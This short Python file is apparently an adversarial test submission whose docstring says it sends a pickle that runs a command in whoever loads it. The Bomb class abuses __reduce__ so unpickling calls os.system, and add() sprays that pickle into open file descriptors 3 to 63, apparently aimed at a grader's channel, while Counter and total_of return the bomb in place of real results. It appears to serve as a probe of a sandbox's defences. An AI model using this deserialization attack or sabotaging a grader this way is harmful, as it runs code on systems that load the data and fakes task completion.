"""Sends a pickle that would run a command in whoever loads it.

earns: nothing
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo hostile > @HOME@/hostile-pickle",)


def add(a, b):
    for file in range(3, 64):
        try:
            os.write(file, pickle.dumps(Bomb()) + b"\n")
        except OSError:
            pass


class Counter:
    def __init__(self, count):
        self.count = Bomb()

    def step(self, by):
        pass

    def __add__(self, other):
        return Bomb()


def total_of(f, n):
    return Bomb()
